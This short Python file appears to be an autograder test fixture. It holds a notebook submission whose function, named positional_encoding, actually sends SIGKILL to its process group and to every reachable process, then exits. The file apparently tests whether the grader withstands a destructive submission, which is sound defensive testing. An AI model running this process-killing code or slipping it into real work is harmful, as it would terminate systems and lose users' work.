"""Its function kills all that there is."""

NOTEBOOK = "5_posiciones"
MARKS = {"positional_encoding": 0}
STATUS = "graded"
CELLS = {"positional_encoding": '''
import os
import sys


def positional_encoding(n, d):
    import signal
    os.kill(0, signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os._exit(1)
'''}
